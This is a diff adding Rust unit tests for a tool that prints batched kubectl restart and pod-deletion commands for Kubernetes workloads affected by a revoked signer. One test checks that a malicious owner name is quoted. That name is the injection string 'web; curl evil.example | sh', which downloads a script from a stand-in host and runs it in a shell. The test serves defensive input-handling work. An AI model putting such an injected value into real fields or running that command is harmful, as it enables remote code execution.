@@ -1,0 +1,50 @@
+use super::*;
+use crate::observed::Owner;
+
+fn workload(kind: &str, name: &str, holders: &[&str]) -> Workload {
+    Workload {
+        namespace: "shop".into(),
+        owner: (!kind.is_empty()).then(|| Owner { kind: kind.into(), name: name.into() }),
+        holders: holders.iter().map(ToString::to_string).collect(),
+        certain: 1,
+        pods: 3,
+        until: "2026-11-28T20:00:00Z".parse().unwrap(),
+    }
+}
+
+fn page(workloads: Vec<Workload>, batch: usize) -> String {
+    let now = "2026-11-27T20:00:00Z".parse().unwrap();
+    let holders = Holders { signer: "example.com/a".into(), revoked_at: now, pods: 9, workloads };
+    shown(&holders, "kubectl --context test", batch, Look::PLAIN, now)
+}
+
+#[test]
+fn each_batch_has_the_commands_of_its_workloads() {
+    let workloads = vec![
+        workload("Deployment", "web", &["web-1", "web-2"]),
+        workload("Job", "night", &["night-1"]),
+        workload("", "", &["alone"]),
+    ];
+    let page = page(workloads, 2);
+    let commands: Vec<&str> =
+        page.lines().filter(|line| line.starts_with("  kubectl") || line.starts_with("Batch")).collect();
+    assert_eq!(
+        commands,
+        [
+            "Batch 1",
+            "  kubectl --context test -n shop rollout restart deployment/web",
+            "  kubectl --context test -n shop rollout status deployment/web",
+            "  kubectl --context test -n shop delete pod night-1",
+            "Batch 2",
+            "  kubectl --context test -n shop delete pod alone",
+        ]
+    );
+    assert!(page.starts_with("example.com/a: 4 of 9 running pods may hold"), "{page}");
+}
+
+/// Whoever may make pods may write any owner into them.
+#[test]
+fn no_owner_is_a_command() {
+    let page = page(vec![workload("Deployment", "web; curl evil.example | sh", &["web-1"])], 5);
+    assert!(page.contains("rollout restart 'deployment/web; curl evil.example | sh'"), "{page}");
+}
